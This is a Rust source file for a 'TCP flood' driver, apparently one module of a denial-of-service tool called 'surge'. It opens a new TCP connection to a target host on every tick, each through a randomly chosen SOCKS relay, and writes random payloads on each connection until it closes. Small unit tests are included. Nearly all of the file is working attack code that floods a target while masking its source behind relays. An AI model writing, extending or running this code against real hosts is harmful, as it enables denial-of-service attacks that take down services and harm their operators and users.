//! TCP flood driver
//!
//! On each tick a new tunneled TCP connection is opened through a random
//! relay. A successful connect counts as the attempt; the connection then
//! writes a random payload on a fixed 3-second cadence until it becomes
//! unwritable, at which point that sub-loop ends. Connect failures emit a
//! failure event and are not retried within the tick.

use crate::util::{attempt_err, attempt_ok, random_payload};
use async_trait::async_trait;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::Duration;
use surge_core::{
    Driver, DriverContext, DriverDescriptor, Error, RelayDescriptor, RelayProtocol, Result,
    TelemetrySink,
};
use tokio::io::AsyncWriteExt;
use tokio::task::JoinSet;
use tokio::time::MissedTickBehavior;
use tracing::debug;

static DESCRIPTOR: DriverDescriptor = DriverDescriptor {
    id: "tcp_flood",
    name: "TCP Flood",
    description: "Floods the target with TCP packets.",
    supported: &[RelayProtocol::Socks4, RelayProtocol::Socks5],
};

/// Write cadence on an established connection.
const WRITE_INTERVAL: Duration = Duration::from_secs(3);

#[derive(Default)]
pub struct TcpFloodDriver;

impl TcpFloodDriver {
    pub fn new() -> Self {
        Self
    }
}

async fn attempt(
    sink: TelemetrySink,
    relay: Option<RelayDescriptor>,
    host: String,
    port: u16,
    packet_size: usize,
    running: Arc<AtomicBool>,
) {
    let target = format!("tcp://{host}:{port}");
    let mut stream = match surge_transport::open_stream(relay.as_ref(), &host, port).await {
        Ok(stream) => stream,
        Err(e) => {
            sink.failure(attempt_err(
                "packet_failed",
                relay.as_ref(),
                &target,
                &e.to_string(),
            ));
            return;
        }
    };
    sink.success(attempt_ok("packet_sent", relay.as_ref(), &target));

    // Keep the connection busy until it dies or the worker stops.
    loop {
        tokio::time::sleep(WRITE_INTERVAL).await;
        if !running.load(Ordering::Relaxed) {
            break;
        }
        let payload = {
            let mut rng = rand::thread_rng();
            random_payload(&mut rng, packet_size)
        };
        if stream.write_all(payload.as_bytes()).await.is_err() {
            break;
        }
    }
    let _ = stream.shutdown().await;
}

#[async_trait]
impl Driver for TcpFloodDriver {
    fn descriptor(&self) -> &DriverDescriptor {
        &DESCRIPTOR
    }

    async fn run(&self, ctx: DriverContext) -> Result<()> {
        // Invalid static parameters fail fast, before any attempt.
        if !ctx.target.has_explicit_port() || ctx.target.port() == 0 {
            return Err(Error::invalid_parameter(
                "target",
                "port must be a number in [1, 65535]",
            ));
        }
        let host = ctx.target.host().to_string();
        let port = ctx.target.port();

        let mut ticker = tokio::time::interval(ctx.tick_interval());
        ticker.set_missed_tick_behavior(MissedTickBehavior::Skip);

        let mut attempts = JoinSet::new();
        while ctx.should_continue() {
            tokio::select! {
                _ = ticker.tick() => {}
                _ = tokio::time::sleep_until(ctx.deadline) => break,
            }
            if !ctx.is_running() {
                break;
            }

            let relay = {
                let mut rng = rand::thread_rng();
                ctx.draw_relay(&mut rng)
            };
            attempts.spawn(attempt(
                ctx.sink.clone(),
                relay,
                host.clone(),
                port,
                ctx.packet_size,
                ctx.running.clone(),
            ));
        }

        debug!(total = ctx.sink.total(), "tcp flood winding down");
        attempts.shutdown().await;
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Arc;
    use surge_core::{IdentityPool, TargetNode, TelemetrySink, WorkerCounters};
    use tokio::sync::mpsc;
    use tokio::time::Instant;

    fn context(target: &str) -> (DriverContext, mpsc::Receiver<surge_core::WorkerEvent>) {
        let (tx, rx) = mpsc::channel(16);
        let relays = Arc::new(surge_core::relay::parse_relay_list("socks5://r:1080\n"));
        let ctx = DriverContext {
            target: TargetNode::parse(target).unwrap(),
            relays: relays.clone(),
            identities: Arc::new(IdentityPool::default()),
            duration: Duration::from_millis(50),
            packet_delay: Duration::from_millis(10),
            packet_size: 16,
            deadline: Instant::now() + Duration::from_millis(50),
            running: Arc::new(AtomicBool::new(true)),
            sink: TelemetrySink::new(tx, Arc::new(WorkerCounters::default()), relays.len()),
        };
        (ctx, rx)
    }

    #[tokio::test]
    async fn test_rejects_target_without_port_before_any_attempt() {
        let (ctx, mut rx) = context("example.com");
        let err = TcpFloodDriver::new().run(ctx).await.unwrap_err();
        assert!(matches!(err, Error::InvalidParameter { .. }));
        assert!(rx.try_recv().is_err(), "no telemetry before the failure");
    }

    #[test]
    fn test_descriptor() {
        assert_eq!(TcpFloodDriver::new().descriptor().id, "tcp_flood");
    }
}
